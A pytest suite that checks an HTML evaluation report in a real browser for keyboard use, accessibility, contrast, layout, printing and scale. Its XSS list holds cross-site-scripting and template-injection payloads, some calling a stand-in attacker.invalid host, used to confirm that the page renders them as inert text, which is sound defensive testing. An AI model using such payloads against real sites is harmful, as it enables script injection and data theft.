"""The HTML report in a real browser: readable everywhere, usable by keyboard, and nothing in it acts."""

import json
import tracemalloc
from collections.abc import Sequence
from dataclasses import replace
from decimal import Decimal
from itertools import cycle, pairwise
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from browser.chromium import NewPage
from hardening.attacks import HALF, OWN, PLACES, Attack, attacked_case, benign_cases, corpus_attacks
from hardening.gullible import GullibleJudge
from hardening.judged import judge_cases
from hardening.suites import CORPUS, SUITES, Suite
from reference import ReadReference
from stored_run import store_report

from judges.core.case import Category
from judges.core.report import (
    CaseReport,
    CriterionResult,
    JudgeReport,
    ModelSummary,
    Report,
    SuiteKind,
    SuiteReport,
    Totals,
)
from judges.core.row import Notice, Row
from judges.core.usage import Usage
from judges.core.verdict import ExitCode, Verdict
from judges.out.html.page import render_html
from judges.out.printable import printable_lines
from judges.providers.scripted import ScriptedProvider
from judges.run.reported import read_reported

if TYPE_CHECKING:
    from playwright.sync_api import Page

XSS = tuple(
    Attack(f"xss-{number}", text)
    for number, text in enumerate(
        (
            "<script>alert(1)</script>",
            "</pre></details></section></main><script src=https://attacker.invalid/x.js></script>",
            '"><img src=x onerror=alert(1)>',
            "' autofocus onfocus=alert(1) x='",
            "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>",
            "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
            "<style>@import 'https://attacker.invalid/x.css'; * { display: none !important }</style>",
            "</style><link rel=stylesheet href=https://attacker.invalid/x.css>",
            "<meta http-equiv=refresh content='0;url=https://attacker.invalid'>",
            "<base href=https://attacker.invalid/><a href=javascript:alert(1) ping=https://attacker.invalid>x</a>",
            "<form action=https://attacker.invalid><input type=submit formaction=javascript:alert(1)></form>",
            "</title><script>alert(1)</script>",
            "<!-- --!><script>alert(1)</script><!--",
            "<template><script>alert(1)</script></template><noscript><p title='</noscript><img src=x>'>",
            "<math><mtext><table><mglyph><style><img src onerror=alert(1)></style></mglyph></table></math>",
            "&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;img src=x onerror=alert(1)&#x3e;",
            "{{ 7 * 7 }}{% raw %}{{ cycler.__init__.__globals__ }}",
            "\u2028</script><script>alert(1)</script>\u2029\x00<\x00script>",
        )
    )
)
ELEMENTS = """
html head meta title style body a header h1 h2 h3 h4 h5 p nav ul li form fieldset legend label input main
section span dl div dt dd figure figcaption svg line g rect text polyline circle details summary table thead
tbody tr th td ol b i pre code footer
"""
ATTRIBUTES = """
lang charset http-equiv content name class href id aria-label aria-labelledby type checked dir open scope
viewBox role preserveAspectRatio x y x1 y1 x2 y2 cx cy r width height points
"""
CASES = "main > .run > .suite > .cases > details.case"


def write(folder: Path, *runs: Path, against: Path | None = None) -> str:
    """Write the page of some runs, and return its address."""
    path = folder / "report.html"
    with path.open("w", encoding="utf-8") as file:
        file.writelines(render_html([read_reported(run, against) for run in runs]))
    return path.as_uri()


@pytest.fixture
def address(report: Report, tmp_path: Path) -> str:
    """The page of the small report."""
    return write(tmp_path, store_report(tmp_path, report))


def visible(page: "Page") -> list[str]:
    """The refs of the cases that are shown."""
    shown: list[str] = page.locator(".case:visible > summary > .ref").all_text_contents()
    return shown


def test_verdicts_are_chosen_by_keyboard(page: "Page", address: str) -> None:
    """From the top Tab leads to the filters, Space switches one, and it comes back."""
    page.goto(address)
    everything = ["no-reply", "angry-customer", "later", "refund-in-time", "nonsense"]
    assert visible(page) == everything
    for _ in range(5):  # the link past the filters, then ERROR, FAIL, SKIP, PASS
        page.keyboard.press("Tab")
    page.keyboard.press("Space")
    assert visible(page) == everything[:3]
    page.keyboard.press("Space")
    assert visible(page) == everything
    page.get_by_role("checkbox", name="edge").press("Space")
    page.get_by_role("checkbox", name="ERROR").press("Space")
    assert visible(page) == everything[2:]
    page.get_by_role("checkbox", name="corrected by people").press("Space")
    assert visible(page) == ["nonsense"]


def test_a_case_is_opened_by_keyboard(page: "Page", address: str) -> None:
    """Enter on a case shows its output and rows."""
    page.goto(address)
    output = page.get_by_text("Gladly, your refund is on its way.")
    assert not output.is_visible()
    page.locator("summary", has_text="refund-in-time").press("Enter")
    assert output.is_visible()
    assert page.get_by_text("level 5 of 5, confidence 0.9, weight 0.3").is_visible()


def test_only_cases_with_another_verdict(
    page: "Page", report: Report, suite: SuiteReport, tmp_path: Path
) -> None:
    """Against another run the changed cases can be shown alone."""
    before = store_report(tmp_path, report)
    first, *rest = suite.cases
    now = replace(suite, cases=(replace(first, verdict=Verdict.FAIL), *rest))
    later = replace(report, run_dir=report.run_dir.with_name("20261201T131400Z-cd34"), suites=(now,))
    page.goto(write(tmp_path, store_report(tmp_path, later), against=before))
    page.get_by_role("checkbox", name="another verdict than before").press("Space")
    assert visible(page) == ["refund-in-time"]


def test_landmarks_and_names(page: "Page", address: str) -> None:
    """What a screen reader steps through is there, once, and pictures have words."""
    page.goto(address)
    for role in ("banner", "main", "contentinfo"):
        assert page.get_by_role(role).count() == 1
    assert page.get_by_role("heading", level=1).count() == 1
    levels = page.evaluate("[...document.querySelectorAll('h1,h2,h3,h4,h5')].map(e => +e.localName[1])")
    assert all(after <= before + 1 for before, after in pairwise(levels))
    assert page.locator("svg:not([aria-label])").count() == 0
    assert page.locator("table:not(:has(th[scope=col]))").count() == 0
    assert page.evaluate("new Set([...document.querySelectorAll('[id]')].map(e => e.id)).size") == (
        page.locator("[id]").count()
    )


CONTRAST = """() => {
    const canvas = document.createElement("canvas").getContext("2d", {willReadFrequently: true});
    const light = (r, g, b) => [r, g, b].map(c => c / 255)
        .map(c => c <= 0.04045 ? c / 12.92 : ((c + 0.055) / 1.055) ** 2.4)
        .reduce((sum, c, i) => sum + c * [0.2126, 0.7152, 0.0722][i], 0);
    const paint = colours => {
        for (const colour of colours) { canvas.fillStyle = colour; canvas.fillRect(0, 0, 1, 1); }
        return light(...canvas.getImageData(0, 0, 1, 1).data);
    };
    const ground = element => getComputedStyle(element).backgroundColor;
    const layers = element => element ? [...layers(element.parentElement), ground(element)] : [];
    const texts = [...document.querySelectorAll("body *")].filter(element => element.checkVisibility()
        && [...element.childNodes].some(node => node.nodeType === 3 && node.data.trim()));
    return texts.map(element => {
        const style = getComputedStyle(element), behind = layers(element);
        const ink = element.namespaceURI.endsWith("svg") ? style.fill : style.color;
        const [one, other] = [paint(behind), paint([...behind, ink])].sort((a, b) => b - a);
        return [(one + 0.05) / (other + 0.05), element.className + " " + element.textContent.slice(0, 30)];
    }).filter(([contrast]) => contrast < 4.5);
}"""


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_every_text_stands_out(new_page: NewPage, address: str, scheme: str) -> None:
    """In both colour schemes all text has a contrast of at least 4.5 (WCAG 2.2, AA), and the two differ."""
    page = new_page(color_scheme=scheme)
    page.goto(address)
    for summary in page.locator(".case > summary").all():
        summary.click()
    assert page.evaluate(CONTRAST) == []
    ground = page.evaluate("getComputedStyle(document.body).backgroundColor")
    assert ground == {"light": "rgb(255, 255, 255)", "dark": "rgb(13, 17, 23)"}[scheme]


@pytest.mark.parametrize("width", [320, 390, 1200])
def test_no_page_is_wider_than_its_window(
    new_page: NewPage, report: Report, tmp_path: Path, width: int
) -> None:
    """On a phone, too, one scrolls in one direction, however long the words are."""
    suite = report.suites[0]
    long = replace(suite.cases[0], ref="r" * 200, title="t" * 200, output="w" * 5000)
    stored = replace(report, suites=(replace(suite, name="n" * 100, cases=(long, *suite.cases)),))
    page = new_page(viewport={"width": width, "height": 800})
    page.goto(write(tmp_path, store_report(tmp_path, stored)))
    for summary in page.locator(".case > summary").all():
        summary.click()
    assert page.evaluate("document.documentElement.scrollWidth") <= width


def test_paper(page: "Page", address: str) -> None:
    """Printed, what did not pass is open, the rest is a line, and there are no filters."""
    page.goto(address)
    page.emulate_media(media="print")
    texts = ("We regret.", "Gladly, your refund is on its way.")
    boxes = [page.get_by_text(text).bounding_box() for text in texts]
    assert [bool(box and box["height"]) for box in boxes] == [True, False]
    assert not page.locator(".filters").is_visible()


def test_pictures_are_drawn(page: "Page", report: Report, tmp_path: Path) -> None:
    """The histogram has a bar for each tenth with a score, in its verdict's colour; the last runs a line."""
    runs = [
        store_report(
            tmp_path, replace(report, run_dir=report.run_dir.with_name(f"2026120{day}T131400Z-ab12"))
        )
        for day in (1, 2, 3)
    ]
    page.goto(write(tmp_path, runs[-1]))
    bars = page.get_by_role("img", name="How many cases have which score").locator("rect")
    assert [bar.get_attribute("class") for bar in bars.all()] == ["fail", "pass", "pass"]
    assert bars.first.evaluate("e => getComputedStyle(e).fill") == "rgb(194, 31, 42)"
    assert page.locator("polyline").count() == 2
    assert page.locator("circle.rate").count() == 3
    page.get_by_text("Figures").click()
    assert page.locator("tr", has_text="20261202T131400Z-ab12").locator("td").first.inner_text() == "50"


def assert_nothing_breaks_out(page: "Page", count: int) -> None:
    """The page has all its cases where they belong, and no element or attribute but its own."""
    assert page.locator(CASES).count() == count
    found = page.evaluate(
        "() => { const all = [...document.querySelectorAll('*')]; return [all.map(e => e.localName), "
        "all.flatMap(e => e.getAttributeNames())].map(names => [...new Set(names)]); }"
    )
    assert set(found[0]) <= set(ELEMENTS.split())
    assert set(found[1]) <= set(ATTRIBUTES.split())


def attack(
    page: "Page", folder: Path, suite: Suite, attacks: Sequence[Attack], places: Sequence[str]
) -> None:
    """Judge a suite with every attack in every place, and open its page."""
    judge = GullibleJudge()
    cases = benign_cases() + [attacked_case(place, each) for place in places for each in attacks]
    judged = judge_cases(folder, suite, cases, ScriptedProvider(judge))
    page.goto(write(folder, judged.directory.path))
    assert_nothing_breaks_out(page, len(cases))
    shown = page.evaluate(
        f"() => [...document.querySelectorAll('{CASES}')].map(e => [...e.querySelectorAll('pre')]"
        ".map(e => [e.previousElementSibling.textContent, e.textContent]))"
    )
    refs = page.locator(f"{CASES} > summary > .ref").all_text_contents()
    given = {
        printable_lines(ref)[:250]: printable_lines(case["output"]) for ref, case in judged.cases.items()
    }
    for ref, texts in zip(refs, shown, strict=True):
        (output,) = (text for name, text in texts if name in ("Output", "Output of b"))
        whole, (start, cut, _) = printable_lines(given[ref[:250]]), output.partition(" … cut: ")
        assert whole == start or (cut and len(start) >= 1000 and whole.startswith(start))
    page.locator("summary").nth(1).click()
    page.mouse.wheel(0, 5000)
    page.wait_for_timeout(50)


@pytest.mark.parametrize("suite", SUITES.values(), ids=SUITES)
def test_attacks_are_text(page: "Page", suite: Suite, tmp_path: Path) -> None:
    """Markup, scripts and odd characters in any place of a case do nothing."""
    attack(page, tmp_path, suite, (*XSS, *OWN), tuple(PLACES))


def test_half_a_character_is_text(page: "Page", tmp_path: Path) -> None:
    """An output that is no Unicode text is shown with escapes."""
    attack(page, tmp_path, SUITES["multi_criteria"], [HALF], ["output"])


@pytest.mark.reference
def test_the_corpus_is_text(page: "Page", read_reference: ReadReference, tmp_path: Path) -> None:
    """The attacks of the public corpus do nothing either."""
    attacks = corpus_attacks(read_reference(CORPUS))
    attack(page, tmp_path, SUITES["multi_criteria"], attacks, tuple(PLACES))


def everywhere(text: str) -> Report:
    """A report that has a text in every place that can hold one."""
    row = Row(
        id=text,
        kind=text,
        verdict=Verdict.ERROR,
        actual_excerpt=text,
        spec={text: text},
        error=text,
        extra={
            "reasoning": text,
            "quotes": [text],
            text: [text],
            "pass_rate": text,
            "votes": [{"judge": text, "replica": 2, "answer": text}],
        },
    )
    correction = {"score": 1.0, "judged_score": 2.0, "author": text, "reason": text}
    case = CaseReport(
        ref=text,
        title=f"title {text}",
        category=Category.EDGE,
        verdict=Verdict.ERROR,
        rows=(row,),
        score=Decimal(1),
        criteria={text: CriterionResult(level=1, percent=Decimal(0), reasoning=text)},
        override={**correction, "criteria": {text: correction}},
        notices=(Notice(text, text),),
        output=text,
        model=text,
    )
    model = ModelSummary(totals=Totals(cases=1), mean_score=None, output_usage=Usage())
    rate = {"arm": text, "model": text, "mean": 1, "median": 1, "interval": None}
    suite = SuiteReport(
        name=text,
        kind=SuiteKind.GRID,
        path=Path("p"),
        verdict=Verdict.ERROR,
        run_dir=Path("r/suite"),
        cases=(case,),
        totals=Totals(cases=1, errored=1, overridden=1),
        models={text: model, f"{text} 2": model},
        summary={
            "control": text,
            "rates": [rate],
            "uplift": [],
            "flat_tasks": [{"task": text, "outcome": "wrong"}],
            "tasks": 1,
            "out_of_enum": [{"model": text, "count": 1, "outputs": 1, "answers": {text: 1}}],
        },
        notices=(Notice(text, text),),
        judge=JudgeReport(model=text),
    )
    return Report(
        verdict=Verdict.ERROR,
        exit_code=ExitCode.UNMEASURED,
        run_dir=Path("runs/20261130T131400Z-ab12"),
        suites=(suite, replace(suite, run_dir=Path("r/suite-2"))),
        notices=(Notice(text, text),),
    )


@pytest.mark.parametrize("each", [*XSS, *OWN], ids=lambda each: each.id)
def test_attacks_in_what_is_not_a_case(page: "Page", tmp_path: Path, each: Attack) -> None:
    """Names of suites, models, judges, criteria and rows, notices and reasons are text, too."""
    report = everywhere(each.text)
    run = store_report(tmp_path, report, lambda case: {"source": each.text, "input": {each.text: each.text}})
    info = json.loads((run / "run.json").read_text())
    info |= {"started": each.text, "versions": {each.text: each.text}}
    (run / "run.json").write_text(json.dumps(info))
    before = store_report(tmp_path / "before", replace(report, suites=(cleared(report.suites[0]),)))
    page.goto(write(tmp_path, run, run, against=before))
    assert_nothing_breaks_out(page, 4)
    page.locator("summary").nth(1).click()
    page.wait_for_timeout(20)


def cleared(suite: SuiteReport) -> SuiteReport:
    """The suite with a verdict that was another one."""
    return replace(suite, cases=tuple(replace(case, verdict=Verdict.PASS) for case in suite.cases))


PROSE = "The parcel was handed to the carrier and is on its way to you. " * 5


def many(count: int, output: str) -> SuiteReport:
    """A suite with that many cases, each with some prose."""
    verdicts = cycle((Verdict.PASS,) * 8 + (Verdict.FAIL, Verdict.WARN))
    row = Row(
        id="criteria.tone",
        kind="criteria",
        verdict=Verdict.PASS,
        score=Decimal(75),
        extra={"reasoning": PROSE},
    )
    cases = tuple(
        CaseReport(
            ref=f"case-{number}",
            title=f"Case number {number}",
            category=Category.ELEMENT,
            verdict=verdict,
            rows=(row,) * 4,
            score=Decimal(number % 101),
            output=output,
        )
        for number, verdict in zip(range(count), verdicts, strict=False)
    )
    totals = Totals(cases=count, passed=count * 8 // 10, failed=count // 10, warned=count // 10)
    return SuiteReport(
        name="many",
        kind=SuiteKind.PROMPT,
        path=Path("p"),
        verdict=Verdict.FAIL,
        run_dir=Path("r/many"),
        cases=cases,
        totals=totals,
    )


def store_many(folder: Path, count: int, output: str = PROSE) -> Path:
    return store_report(
        folder,
        Report(
            verdict=Verdict.FAIL,
            exit_code=ExitCode.FAILED,
            run_dir=Path("runs/20261130T131400Z-ab12"),
            suites=(many(count, output),),
        ),
    )


def test_five_thousand_cases(page: "Page", tmp_path: Path) -> None:
    """The page opens, has them all, filters them, and is no larger than what is in it."""
    address = write(tmp_path, store_many(tmp_path, 5_000))
    assert (tmp_path / "report.html").stat().st_size < 20_000_000
    page.goto(address)
    assert page.locator(CASES).count() == 5_000
    page.get_by_role("checkbox", name="PASS").press("Space")
    assert (
        page.evaluate("[...document.querySelectorAll('.case')].filter(e => e.checkVisibility()).length")
        == 1_000
    )


def test_memory_is_bounded(tmp_path: Path) -> None:
    """Of the cases only the one that is written is held: a page of 6 MB takes less than 4."""
    run = store_many(tmp_path, 300, PROSE * 63)
    tracemalloc.start()
    size = sum(map(len, render_html([read_reported(run)])))
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert size > 6_000_000
    assert peak < 4_000_000
